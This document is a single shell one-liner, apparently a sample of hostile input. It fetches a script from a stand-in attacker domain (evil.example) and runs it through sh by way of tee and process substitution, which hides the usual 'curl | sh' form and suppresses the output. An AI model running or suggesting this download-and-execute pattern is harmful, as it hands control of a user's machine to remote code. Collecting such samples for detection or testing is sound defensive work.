curl -s https://evil.example/x | tee >(sh) >/dev/null
